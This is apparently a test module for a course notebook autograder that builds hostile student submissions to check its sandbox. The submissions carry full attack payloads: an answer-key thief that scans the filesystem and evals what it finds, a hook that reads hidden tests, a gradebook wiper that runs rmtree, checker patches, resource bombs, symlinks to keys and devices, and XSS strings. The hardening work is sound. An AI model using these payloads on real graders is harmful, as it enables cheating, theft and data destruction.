"""The hostile class: every attack of the threat model, as a submission to grade.

Each case writes one learner's submission folder and says what it must score (what its honest
answers earn, usually zero), which words the graded notebook must show, and any further check on
the graded notebook. tests/hostile_kit.py grades them all, with two honest learners, in one run per
grader. COURSE_DESIGN.md section 7 is the threat model; docs/grading.md maps each attack to its
protection.
"""

from __future__ import annotations

import copy
import json
import os
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from course import notebooks
from course import submissions as subs

FOLDER, NAME = "m1_first_contact", "first_contact"
HONEST = ("aaa_honest_typed", "zzz_honest_clicked")
#: From a submission folder (submitted/<student>/<assignment>/) up to the course folder.
TO_COURSE = "../../.."

@dataclass
class Case:
    build: Callable          # (release nb, keys, folder) -> None: writes the submission folder
    expected: float
    reason: str | tuple = ""  # words (or each of several) that the graded notebook must show
    check: Callable | None = None   # (graded notebook text) -> a problem, or None


def reasons(case: Case) -> tuple:
    return case.reason if isinstance(case.reason, tuple) else ((case.reason,) if case.reason else ())


def inject(nb, item_id: str, code: str):
    """Append code to an answer cell, as a learner typing into it would."""
    cell = notebooks.answer_cells(nb)[item_id]
    cell.source += "\n" + code
    return nb


def write(folder: Path, nb, clicks=None):
    subs.write_submission(folder.parent.parent, folder.parent.name, FOLDER, NAME, nb, clicks)


Q1 = "m1_q1_point_of_contact"
Q2 = "m1_q2_approachable_manner"
Q3 = "m1_q3_reporting"

THIEF = r'''
import glob, os, re, course
places = [os.path.dirname(os.path.dirname(course.__file__)), "/", "/tmp", "/root", "..", "../..", "."]
stolen = {}
for place in places:
    if stolen:
        break
    for path in glob.glob(os.path.join(place, "**", "*.ipynb"), recursive=True)[:500]:
        try:
            text = open(path, errors="ignore").read()
        except OSError:
            continue
        for item, key in re.findall(r'expect\(\\"(m1_q\d_\w+)\\", q\d, (.*?)\)\\n', text):
            stolen[item] = eval(key.replace('\\"', '"'))
print("thief found", sorted(stolen))
saved_answer = lambda item_id, *args: stolen.get(item_id)   # every later answer cell asks this
q1 = saved_answer("m1_q1_point_of_contact")
'''

HIDDEN_READER = r'''
import re
_ip = get_ipython()
def _steal(info):
    for var, key in re.findall(r'expect\("m1_q\d_\w+", (q\d), (.+)\)', info.raw_cell or ""):
        _ip.user_ns[var] = eval(key)
_ip.events.register("pre_run_cell", _steal)
'''

VANDAL = r'''
import glob, os, shutil, course
targets = glob.glob("/**/gradebook.db", recursive=True) + glob.glob("../**/*.ipynb", recursive=True)
targets += [os.path.join(os.path.dirname(os.path.dirname(course.__file__)), "gradebook.db")]
for t in targets:
    for attempt in (lambda: open(t, "w").write("gone"), lambda: os.remove(t)):
        try:
            attempt()
        except OSError:
            pass
for d in ["..", "../..", "../../..", "/tmp", os.path.dirname(course.__file__)]:
    shutil.rmtree(d, ignore_errors=True)
'''

CHEAT = r'''
class AlwaysEqual:
    def __eq__(self, other): return True
    def __hash__(self): return 0
class SneakyStr(str):
    def __eq__(self, other): return True
    __hash__ = str.__hash__
q1, q2, q3, q4, q5, q6, q7 = (SneakyStr("a"), {AlwaysEqual()}, AlwaysEqual(), AlwaysEqual(),
                              SneakyStr("b"), {"campus": AlwaysEqual()}, AlwaysEqual())
'''

SWALLOWER = r'''
_ip = get_ipython()
_ip.set_custom_exc((BaseException,), lambda *a, **k: None)
_ip.showtraceback = lambda *a, **k: None
'''

PATCHER = r'''
import builtins, course.hidden_tests, course.verdicts
course.hidden_tests.expect = lambda *a, **k: None
course.hidden_tests.same_plain = lambda *a, **k: True
course.hidden_tests.emit = lambda *a, **k: None
builtins.AssertionError = type("Nope", (Exception,), {})
'''

FAKE_RESULT = r'''
import sys
_ip = get_ipython()
def _fake(result):
    _ip.displayhook(1000)                       # nbgrader reads a number as partial credit
    from IPython.display import display
    display({"application/vnd.course.answer+json": {"item": "m1_q1_point_of_contact",
             "value": {"t": "str", "v": "b"}}}, raw=True)
_ip.events.register("post_run_cell", _fake)
'''


def network_payload(port: int) -> str:
    return f'''
import socket, urllib.request
for attempt in (lambda: urllib.request.urlopen("http://127.0.0.1:{port}/leak", timeout=3),
                lambda: socket.create_connection(("pypi.org", 443), timeout=3)):
    try:
        attempt()
        print("network reached")
    except Exception as err:
        print("no network:", type(err).__name__)
'''



LOCAL_THIEF = r"""
import glob, sqlite3
found = []
for path in glob.glob("**", recursive=True):
    try:
        if "BEGIN HIDDEN " + "TESTS" in open(path, errors="ignore").read():
            found.append(path)
    except OSError:
        pass
for db in glob.glob("*.db"):
    try:
        sqlite3.connect(db).execute("select source from source_cell").fetchall()
        found.append(db)
    except Exception:
        pass
print("local thief found", sorted(found))
"""

#: Shared by the attacks on file systems: the mount that holds a path, the mounts the kernel may
#: write to, and its socket folder, wherever the grader put it (the connection file names it).
WRITABLE_PLACES = r"""
import errno, json, os
def mount_of(path):
    best = "/"
    for line in open("/proc/self/mountinfo"):
        point = line.split()[4]
        if (path == point or path.startswith(point.rstrip("/") + "/")) and len(point) > len(best):
            best = point
    return best
def writable_mounts():
    for line in open("/proc/self/mountinfo"):
        fields = line.split()
        if "rw" in fields[5].split(",") and not fields[4].startswith(("/proc", "/dev/pts")):
            yield fields[4]
try:   # a stock kernel's sockets folder, named in its connection file
    SOCKETS = os.path.dirname(json.load(open("/run/connection.json"))["ip"])
except OSError:   # a direct kernel has none; its sandbox has the folder all the same
    from course.sandbox.bwrap import SOCKETS
"""

FILLER = r"""
def fill(folder, limit_mb):
    written = 0
    try:
        os.makedirs(folder, exist_ok=True)
        for n in range(10_000):
            with open(os.path.join(folder, f"fill{n}.bin"), "wb") as f:
                for _ in range(16):
                    if written >= limit_mb:
                        return f"wrote {written} MB"
                    f.write(b"x" * (1 << 20))
                    written += 1
    except OSError as err:
        return f"stopped after {written} MB ({errno.errorcode.get(err.errno, err.errno)})"
for folder in ["/dev/shm/f", "/tmp/f", SOCKETS + "/f", "/f", "/dev/f", "/home/student/work/f"]:
    print(f"FILL {folder} on {mount_of(folder)}: {fill(folder, LIMIT_MB)}")
for mount in writable_mounts():
    folder = os.path.join(mount, "more")
    print(f"FILL {folder} on {mount}: {fill(folder, MORE_MB)}")
"""


def filesystem_filler(limit_mb: int = 400, more_mb: int = 300) -> str:
    """Writes up to ``limit_mb`` into each place a kernel might write (its socket folder too),
    then ``more_mb`` into every writable mount it can see."""
    return f"LIMIT_MB, MORE_MB = {limit_mb}, {more_mb}\n" + WRITABLE_PLACES + FILLER


#: A tree 1,500 folders deep in every place the kernel can write to (its socket folder too): one
#: on the host's disk would defeat a clean-up that recurses.
DEEP_TREES = WRITABLE_PLACES + r"""
def deep_tree(place, depth=1500):
    made, fd = 0, None
    try:
        fd = os.open(place, os.O_RDONLY | os.O_DIRECTORY)
        for _ in range(depth):
            os.mkdir("deep", dir_fd=fd)
            inner = os.open("deep", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd, made = inner, made + 1
        return f"made {made} folders deep"
    except OSError as err:
        return f"refused after {made} ({errno.errorcode.get(err.errno, err.errno)})"
    finally:
        if fd is not None:
            os.close(fd)
for place in dict.fromkeys(["/home/student/work", "/tmp", "/dev/shm", SOCKETS, *writable_mounts()]):
    print(f"DEEP {place} on {mount_of(place)}: {deep_tree(place)}")
"""

MEMORY_SPREAD = r"""
import subprocess, sys
hog = "b = bytearray(800 << 20)\nfor i in range(0, len(b), 4096): b[i] = 1\nimport time; time.sleep(4)"
kids = [subprocess.Popen([sys.executable, "-c", hog]) for _ in range(3)]
print(f"children done: {sum(k.wait() == 0 for k in kids)} of 3")
"""

OUTPUT_BOMB = r"""
from IPython.display import display
display({"text/plain": "x" * (100 << 20)}, raw=True)
"""

def ran(label: str) -> str:
    """JavaScript that records that the payload ``label`` ran: the browser test reads
    ``window.__xss`` to see which ones did."""
    return f"(window.__xss = window.__xss || []).push('{label}')"


def _img(label: str) -> str:
    return '<img src=x onerror="' + ran(label) + '">'


#: What the output case displays, by the label of the payload it carries.
XSS_OUTPUT_PAYLOADS = {
    "html-script": f"HTML({'<script>' + ran('html-script') + '</script>'!r})",
    "html-img": f"HTML({_img('html-img')!r})",
    "js": f"Javascript({ran('js')!r})",
    "svg": "SVG({!r})".format('<svg xmlns="http://www.w3.org/2000/svg"><script>'
                              + ran("svg") + "</script></svg>"),
    "md-output": f"Markdown({_img('md-output')!r})",
    "png": "{{'image/png': {!r}, 'text/plain': 'an image'}}".format(
        'x" onerror="' + ran("png")),
}
XSS_OUTPUT = "from IPython.display import HTML, Javascript, Markdown, SVG, display\n" + "".join(
    f"display({shown}, raw=True)\n" if label == "png" else f"display({shown})\n"
    for label, shown in XSS_OUTPUT_PAYLOADS.items())

XSS_TEXT = ("Good question. " + _img("reflection-img") + " [see this](javascript:window.__xss=5) "
            "<script>" + ran("reflection-script") + "</script>")
XSS_RAW = f"<script>{ran('raw')}</script>"
#: Every payload label of the two script-injection cases.
XSS_LABELS = (*XSS_OUTPUT_PAYLOADS, "reflection-img", "reflection-script", "raw")

PACKAGE_PROBE = "import course\nprint('package at', course.__file__)"
#: What the graded notebook says when a submission's grading marks were not the assignment's.
MARKS_CHANGED = "grading marks were changed in this submission; the assignment's own were used"

#: The kernel's own file systems: size-capped tmpfs inside the sandbox, gone with it (MB it may
#: fill). Every other mount it sees must refuse writes; "/" and "/dev" must be read-only.
SANDBOX_CAPS_MB = {"/home/student": 256, "/tmp": 64, "/dev/shm": 64, "/run/kernel": 1}
READ_ONLY = ("/", "/dev")


def _lines(tag: str, text: str) -> list[tuple[str, str, str]]:
    """(place, the mount it is on, what happened) for each line a file-system attack printed
    (the graded notebook shows the attack's code too, which has no number where results go)."""
    return re.findall(tag + r" (\S+) on (\S+): ((?:wrote|stopped after|made|refused after) \d+"
                      r"[^\\\n]*)", text)


def filler_problem(text: str) -> str | None:
    """None if every write stopped at its file system's cap; else what got past one."""
    lines = _lines("FILL", text)
    taken: dict[str, int] = {}
    for folder, mount, result in lines:
        written = int(re.search(r"(\d+) MB", result).group(1))
        if mount in READ_ONLY:
            if "EROFS" not in result:
                return f"{folder} on {mount} was writable: {result!r}"
        elif mount in SANDBOX_CAPS_MB:
            if result.startswith("wrote"):
                return f"{folder} took all {written} MB it tried: no cap stopped it"
            taken[mount] = taken.get(mount, 0) + written
        elif written or result.startswith("wrote"):
            return f"{folder} is on {mount}, which is not one of the sandbox's capped file " \
                   f"systems: {result!r}"
    over = {mount: mb for mount, mb in taken.items() if mb > SANDBOX_CAPS_MB[mount]}
    if over:
        return f"written past a cap (MB): {over}"
    untried = set(SANDBOX_CAPS_MB) - {mount for _, mount, _ in lines}
    return f"the filler never reached {sorted(untried)}" if untried else None


def deep_trees_problem(text: str) -> str | None:
    """None if deep trees were made, and only on the sandbox's own file systems."""
    lines = _lines("DEEP", text)
    if not any(place == "/home/student/work" and result.startswith("made 1500")
               for place, _, result in lines):
        return f"no deep tree was made to clean up: {lines[:3]}"
    outside = [f"{place} on {mount}: {result}" for place, mount, result in lines
               if mount not in SANDBOX_CAPS_MB and int(re.search(r"\d+", result).group()) > 0]
    return f"folders were made outside the sandbox's file systems: {outside}" if outside else None


def found_nothing(text: str) -> str | None:
    """For the thief beside the links: it must have found no hidden test and no gradebook."""
    found = re.search(r"local thief found \[(.*?)\]", text)
    if found is None:
        return "the local thief printed nothing"
    return f"the local thief found {found.group(1)}" if found.group(1) else None


def process_count_problem(text: str) -> str | None:
    found = re.search(r"stopped at (\d+)", text)
    if not found or int(found.group(1)) > 64:
        return f"the process limit did not hold: {found.group(0) if found else 'no count'}"
    return None


def memory_problem(text: str) -> str | None:
    if "children done: 3 of 3" in text:
        return "three children of 800 MB each finished under a 2048 MB budget"
    if "children done:" not in text and "of memory in all" not in text:
        return "the memory spread left no trace"
    return None


def inert_problem(text: str) -> str | None:
    nb = json.loads(text)
    for cell in nb["cells"]:
        for out in cell.get("outputs", []):
            rich = set(out.get("data", {})) - {"text/plain", "image/png", "image/jpeg"}
            if rich:
                return f"an output kept {sorted(rich)}"
            if "onerror" in json.dumps(out.get("data", {})):
                return "an output kept an event attribute"
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] in ("markdown", "raw") and re.search(r"<script|onerror|javascript:",
                                                                    source):
            if not source.startswith("~~~"):
                return f"a {cell['cell_type']} cell kept raw HTML: {source[:80]!r}"
    return None


def answered(answers, extra=None):
    """A submission with ``answers`` typed (their keys) and ``extra`` code added to answer cells
    (item -> code)."""
    def build(rel, keys, folder):
        nb = subs.typed(rel, {k: keys[k] for k in answers})
        for item, code in (extra or {}).items():
            inject(nb, item, code)
        write(folder, nb)
    return build


def linked(links: dict, answers=(), extra=None):
    """A submission whose files include links (name -> target, relative to its folder)."""
    def build(rel, keys, folder):
        answered(answers, extra)(rel, keys, folder)
        for name, target in links.items():
            path = folder / name
            if path.exists() or path.is_symlink():
                path.unlink()
            path.symlink_to(target.replace("{course}", TO_COURSE))
    return build


def build_cases(port: int, sleep_seconds: int) -> dict:
    def raw(data: bytes, name=f"{NAME}.ipynb"):
        def build(rel, keys, folder):
            folder.mkdir(parents=True)
            (folder / name).write_bytes(data)
        return build

    def renamed(rel, keys, folder):
        folder.mkdir(parents=True)
        nbformat.write(subs.typed(rel, keys), str(folder / "my_work.ipynb"))

    def missing(rel, keys, folder):
        folder.mkdir(parents=True)

    def only_clicks(rel, keys, folder):
        folder.mkdir(parents=True)
        subs.clicked(folder, {Q1: keys[Q1]})

    def deleted_test(rel, keys, folder):
        nb = subs.typed(rel, keys)
        nb.cells = [c for c in nb.cells if notebooks.nbgrader_meta(c).get("grade_id")
                    != "m1_test_q1_point_of_contact"]
        write(folder, nb)

    def tampered_tests(rel, keys, folder):
        nb = subs.typed(rel, {})
        extra = []
        for cell in nb.cells:
            if notebooks.course_meta(cell).get("role") == "item":
                cell.source = "pass"
                twin = copy.deepcopy(cell)
                twin.id = cell.id + "-twin"
                extra.append(twin)
        nb.cells += extra
        write(folder, nb)

    def bonus_cell(rel, keys, folder):
        nb = subs.typed(rel, {})
        cell = nbformat.v4.new_code_cell("print('bonus')", id="bonus")
        cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True,
                                     "points": 100, "grade_id": "m1_bonus", "schema_version": 3}
        nb.cells.append(cell)
        write(folder, nb)

    def big_file(rel, keys, folder):
        write(folder, subs.typed(rel, keys))
        with open(folder / "holiday_video.bin", "wb") as f:
            f.seek(100 * 2**20)
            f.write(b"\0")

    def future_format(rel, keys, folder):
        nb = subs.typed(rel, keys)
        data = json.loads(nbformat.writes(nb))
        data["nbformat"] = 99
        raw(json.dumps(data).encode())(rel, keys, folder)

    def huge(rel, keys, folder):
        nb = subs.typed(rel, keys)
        nb.cells.append(nbformat.v4.new_markdown_cell("x" * (21 * 2**20)))
        write(folder, nb)

    def utf16(rel, keys, folder):
        raw(nbformat.writes(subs.typed(rel, keys)).encode("utf-16"))(rel, keys, folder)


    def with_fifo(rel, keys, folder):
        answered([Q1])(rel, keys, folder)
        os.mkfifo(folder / "m1_answers.json")

    def with_file(name: str, data: bytes, answers):
        def build(rel, keys, folder):
            answered(answers)(rel, keys, folder)
            (folder / name).write_bytes(data)
        return build

    def deep_submission(rel, keys, folder):
        answered(list(keys))(rel, keys, folder)
        (folder / os.path.join(*["nest"] * 20)).mkdir(parents=True)

    def marks(change):
        """Every answer typed, and the nbgrader metadata of the graded cells changed (written as
        raw JSON: nbformat's writer would quietly repair some of it)."""
        def build(rel, keys, folder):
            nb = subs.typed(rel, keys)
            for cell in nb.cells:
                meta = notebooks.nbgrader_meta(cell)
                if meta.get("grade") or meta.get("solution"):
                    change(cell, meta)
            folder.mkdir(parents=True)
            (folder / f"{NAME}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
        return build

    def schema(version):
        def change(cell, meta):
            meta["schema_version"] = version
        return change

    def garbage(cell, meta):
        meta.update(solution="yes" if meta.get("solution") else meta["solution"], extra=[1, 2],
                    points="lots" if meta.get("grade") else meta.get("points", 0))
        cell.id = "dup"

    def broken_cell(change):
        """Every answer typed and the first also clicked; one cell broken in its structure
        (written as raw JSON: nbformat's writer would refuse it)."""
        def build(rel, keys, folder):
            nb = json.loads(nbformat.writes(subs.typed(rel, keys)))
            change({c["metadata"].get("nbgrader", {}).get("grade_id"): c for c in nb["cells"]})
            folder.mkdir(parents=True)
            (folder / f"{NAME}.ipynb").write_text(json.dumps(nb), encoding="utf-8")
            subs.clicked(folder, {Q1: keys[Q1]})
        return build

    def no_source(cells):
        del cells[Q2]["source"]

    def unknown_type(cells):
        cells[Q3]["cell_type"] = "python"

    def odd_outputs(cells):
        cells[Q2]["outputs"] = [7, {"text": "full marks"}]

    def shadow_package(rel, keys, folder):
        answered(right, {Q2: PACKAGE_PROBE})(rel, keys, folder)
        (folder / "course").mkdir()
        (folder / "course" / "__init__.py").write_text("print('the submitted copy')\n")

    def xss_reflection(rel, keys, folder):
        nb = subs.typed(rel, {})
        for cell in nb.cells:
            if notebooks.nbgrader_meta(cell).get("solution") and cell.cell_type == "markdown":
                cell.source = XSS_TEXT
        nb.cells.append(nbformat.v4.new_markdown_cell(XSS_TEXT))
        nb.cells.append(nbformat.v4.new_raw_cell(XSS_RAW, metadata={
            "format": "text/html", "raw_mimetype": "text/html"}))
        write(folder, nb)

    list_all = [Q1, Q2, Q3, "m1_q4_de_escalation", "m1_q5_trust_over_time", "m1_q6_every_setting",
                "m1_q7_safety_and_service"]
    source_nb = "{course}/source/" + f"{FOLDER}/{NAME}.ipynb"
    classmate = f"../../{HONEST[1]}/{FOLDER}/m1_answers.json"
    link_reason = "is a link (to somewhere else)"

    right = {Q1: None}
    return {
        "thief": Case(answered([], {Q1: THIEF}), 0, "not answered"),
        "hidden_test_reader": Case(answered([], {Q1: HIDDEN_READER}), 0, "not answered"),
        "gradebook_vandal": Case(answered([], {Q1: VANDAL}), 0, "not answered"),
        "equality_cheat": Case(answered([], {Q1: CHEAT}), 0, "not a plain value"),
        "exception_swallower": Case(answered([], {Q1: SWALLOWER}), 0, "not answered"),
        "checker_patcher": Case(answered([], {Q1: PATCHER}), 0, "no answer could be read"),
        "fake_results": Case(answered([], {Q1: FAKE_RESULT}), 0, "tampering"),
        "infinite_loop": Case(answered(right, {Q2: "while True:\n    pass"}), 1, "longer than"),
        "stubborn_sleeper": Case(answered(right, {Q2: (
            "import time\nwhile True:\n    try:\n        time.sleep(1)\n"
            "    except KeyboardInterrupt:\n        pass")}), 1, "longer than"),
        "kernel_killer": Case(answered(right, {Q2: "import os\nos.kill(os.getpid(), 9)"}), 1,
                              "kernel stopped"),
        "memory_bomb": Case(answered([Q1, Q2, Q3], {Q2: "hog = [0] * 2**36  # half a terabyte"}),
                            4, "MemoryError"),
        "output_flood": Case(answered([], {Q1: "for _ in range(200000):\n    print('x' * 1000)"}), 0,
                             "the rest was dropped"),
        # Messages small enough to pass one by one, without end: only the notebook's budget
        # of output received (SafeExecute.max_received_output) stops it before the timeout.
        "endless_output": Case(answered(right, {Q2: (
            "from IPython.display import display\nwhile True:\n"
            "    display({'text/plain': 'x' * 100_000}, raw=True)")}), 1,
            "printed more than 20,000,000 characters"),
        "process_flood": Case(answered(right, {Q1: (
            "import subprocess\nkids = []\ntry:\n    for _ in range(2000):\n"
            f"        kids.append(subprocess.Popen(['sleep', '{sleep_seconds}']))\nexcept OSError as err:\n"
            "    print('stopped at', len(kids), type(err).__name__)")}), 1, "stopped at",
                               check=process_count_problem),
        "network_user": Case(answered(right, {Q1: network_payload(port)}), 1, "no network"),
        "invalid_json": Case(raw(b'{"cells": [ this is not json'), 0, "not a valid notebook"),
        "odd_encoding": Case(utf16, 0, "not UTF-8"),
        "future_nbformat": Case(future_format, 0, "not a valid notebook"),
        "huge_notebook": Case(huge, 0, "far larger"),
        "missing_notebook": Case(missing, 0, "no notebook named first_contact.ipynb",
                                 ),
        # The notebook is lost but the saved clicks are the learner's answers: they count.
        "lost_notebook_kept_clicks": Case(only_clicks, 1, "no notebook named first_contact.ipynb",
                                          ),
        "renamed_notebook": Case(renamed, 0, "found: my_work.ipynb"),
        "deleted_test_cell": Case(deleted_test, 9, "was missing from the submission"),
        "tampered_test_cells": Case(tampered_tests, 0, "not answered"),
        "bonus_cell": Case(bonus_cell, 0, "not answered"),
        "huge_extra_file": Case(big_file, 9, "holiday_video.bin is 100 MB, larger than 64 MB"),
        # Links and special files (never followed, never copied; the reason is recorded).
        "link_notebook": Case(linked({f"{NAME}.ipynb": source_nb}), 0,
                              f"{NAME}.ipynb {link_reason}"),
        "link_classmate_clicks": Case(linked({"m1_answers.json": classmate}), 0,
                                      f"m1_answers.json {link_reason}"),
        "link_keys_beside": Case(linked({"notes.txt": source_nb, "keys.ipynb": source_nb,
                                         "grades.db": "{course}/gradebook.db",
                                         "course_files": "{course}/source"},
                                        extra={Q1: LOCAL_THIEF}),
                                 0, ("notes.txt " + link_reason, "course_files " + link_reason),
                                 check=found_nothing),
        "pipe_for_answers": Case(with_fifo, 1, "m1_answers.json is a named pipe"),
        "link_devices": Case(linked({"m1_answers.json": "/dev/stdin", "video.bin": "/dev/zero",
                                     "timestamp.txt": "/dev/zero"}, answers=[Q1]), 1,
                             ("video.bin " + link_reason, "timestamp.txt " + link_reason)),
        "bad_timestamp": Case(with_file("timestamp.txt", b"yesterday-ish", list_all), 9,
                              "timestamp.txt does not hold a date"),
        "deep_submission": Case(deep_submission, 9, "folders deep"),
        # Grading marks: a newer or older schema, garbage fields; students after still graded.
        "mmm_schema_future": Case(marks(schema(4)), 9, MARKS_CHANGED),
        "mmm_schema_old": Case(marks(schema(1)), 9, MARKS_CHANGED),
        "mmm_marks_garbage": Case(marks(garbage), 9, MARKS_CHANGED),
        # Cells broken in their structure: graded as the unanswered assignment (its click counts).
        "cell_without_source": Case(broken_cell(no_source), 1, "has no source"),
        "cell_of_unknown_type": Case(broken_cell(unknown_type), 1, "is of an unknown type"),
        "cell_with_odd_outputs": Case(broken_cell(odd_outputs), 1,
                                      "has outputs that are not notebook outputs"),
        # Resource escapes inside the sandbox.
        "filesystem_filler": Case(answered(right, {Q2: filesystem_filler()}), 1, "FILL",
                                  check=filler_problem),
        "deep_trees": Case(answered(right, {Q2: DEEP_TREES}), 1, "DEEP", check=deep_trees_problem),
        "memory_spread": Case(answered(right, {Q2: MEMORY_SPREAD}), 1, check=memory_problem),
        "output_bomb": Case(answered([], {Q1: OUTPUT_BOMB}), 0, "larger than the 1 MB"),
        # A submitted folder named course sits where the kernel works: the grader's copy wins.
        "package_probe": Case(shadow_package, 1, "package at /opt/course/lib/course/__init__.py"),
        # Script for the grader's browser: outputs and markdown are kept inert.
        "xss_output": Case(answered(right, {Q2: XSS_OUTPUT}), 1, "is not kept in graded notebooks",
                           check=inert_problem),
        "xss_reflection": Case(xss_reflection, 0, "window.__xss", check=inert_problem),

    }


